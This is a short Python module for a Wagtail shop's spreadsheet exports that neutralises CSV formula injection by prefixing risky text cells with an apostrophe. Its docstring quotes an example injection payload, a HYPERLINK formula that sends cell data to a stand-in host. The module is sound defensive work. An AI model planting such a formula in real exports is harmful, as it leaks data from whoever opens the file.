"""Spreadsheet exports: no cell a user typed may be read as a formula (CSV injection).

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
some read a leading tab or carriage return the same way) as a formula: a referee email or
a program name like ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would leak data or
run a command on the shop owner's computer. Every export writes its text cells through
``neutralise_formula``, which prefixes such a cell with ``'`` (OWASP's advice), shown as
text by Excel and LibreOffice.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: str) -> str:
    """``value`` as a text cell no spreadsheet evaluates."""
    return f"'{value}" if value.startswith(FORMULA_TRIGGERS) else value


def safe_value_preprocess(
    defaults: Mapping[Any, Mapping[str, Callable[[Any], Any] | None]], formats: tuple[str, ...]
) -> dict[Any, Mapping[str, Callable[[Any], Any] | None]]:
    """A ``custom_value_preprocess`` mapping (Wagtail's ``SpreadsheetExportMixin``) that
    also neutralises every text cell in ``formats``."""
    return {**defaults, str: {fmt: neutralise_formula for fmt in formats}}
